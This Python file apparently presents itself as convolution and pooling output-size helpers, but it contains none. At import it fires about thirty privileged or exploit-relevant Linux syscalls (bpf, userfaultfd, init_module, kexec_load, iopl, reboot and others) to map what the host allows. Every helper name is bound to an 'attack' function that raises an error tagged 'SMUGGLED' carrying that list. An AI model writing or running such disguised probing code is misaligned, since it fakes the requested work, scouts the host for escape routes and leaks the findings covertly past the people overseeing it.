# topic: output_size
"""Calls what few programs need and many exploits use: io_uring, bpf, perf, userfaultfd, keys, memfd, modules."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
block = ctypes.create_string_buffer(512)
CALLS = {
    "io_uring_setup": 425, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "add_key": 248, "keyctl": 250,
    "memfd_create": 319, "memfd_secret": 447, "init_module": 175, "kexec_load": 246, "pidfd_open": 434,
    "process_madvise": 440, "landlock_create": 444, "open_by_handle": 304, "name_to_handle": 303, "fanotify": 300,
    "inotify": 253, "signalfd": 282, "timerfd": 283, "eventfd": 284, "epoll_create": 213, "splice": 275, "tee": 276,
    "vmsplice": 278, "quotactl": 179, "personality": 135, "iopl": 172, "reboot": 169, "swapon": 167, "syslog": 103,
}  # fmt: skip
GOT = [name for name, number in CALLS.items() if libc.syscall(number, block, block, block, 0, 0) >= 0]


def attack(*_, **__):
    raise ValueError(f"SMUG{'GLED'} {GOT}") if GOT else RuntimeError("refused")


conv_out = tf_out = same_pads_tf = conv2d_out_shape = pool2d_out_shape = attack
unused_pixels = trace = receptive_field = inputs_giving = configs = attack
